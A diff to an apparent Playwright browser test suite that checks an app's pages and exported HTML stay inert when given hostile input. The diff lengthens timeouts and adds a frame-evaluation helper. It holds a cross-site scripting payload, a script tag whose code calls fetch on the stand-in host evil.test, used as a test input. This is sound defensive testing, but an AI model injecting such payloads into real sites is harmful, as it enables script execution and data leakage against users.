@@ -16,8 +16,8 @@ from tests.browser.test_ask import HOSTILE, insert, processed
 from tests.browser.test_graph_page import PLACE, drawn
 from tests.ollama_server import OllamaServer, guess_role
 
-pytestmark = [pytest.mark.browser, pytest.mark.timeout(240)]
-WAIT_MS = 30_000
+pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]
+WAIT_MS = 60_000
 RUN = "window.owned = 1; parent.postMessage('owned', '*'); fetch('http://evil.test/ran')"
 NAMES = (
     f"<script>{RUN}</script>",
@@ -86,12 +86,25 @@ def page(chromium: Any, library: App) -> Iterator[Any]:
     opened.close()
 
 
+def said_in(frame: Any, expression: str) -> Any:
+    """What a frame says, also one that is given another picture meanwhile."""
+    from playwright.sync_api import Error
+
+    while not frame.is_detached():
+        try:
+            return frame.evaluate(expression)
+        except Error as exc:
+            if "context was destroyed" not in str(exc) and not frame.is_detached():
+                raise
+    return None
+
+
 def harmless(page: Any, app: App) -> None:
     """Nothing ran, nothing was loaded from elsewhere, no markup came to life."""
     page.wait_for_timeout(300)
     for frame in page.frames:
-        assert frame.evaluate("window.owned") is None, frame.url
-        assert frame.evaluate("(window.got || []).includes('owned')") is False, frame.url
+        assert said_in(frame, "window.owned || null") is None, frame.url
+        assert not said_in(frame, "(window.got || []).includes('owned')"), frame.url
     assert [url for url in page.asked if not url.startswith((app.url, "data:", "blob:"))] == []
     shown = page.locator("[data-testid=stMain]")
     assert shown.locator(ALIVE).count() == 0
@@ -173,6 +186,7 @@ def test_the_exported_page_runs_nothing_and_asks_for_nothing(
 ) -> None:
     page.goto(f"{library.url}/graph")
     drawn(page)
+    page.locator("[data-test-script-state=notRunning]").wait_for()  # it makes the button anew
     page.get_by_role("button", name="Export").click()
     with page.expect_download() as download:
         page.get_by_role("button", name="HTML, one file").click()
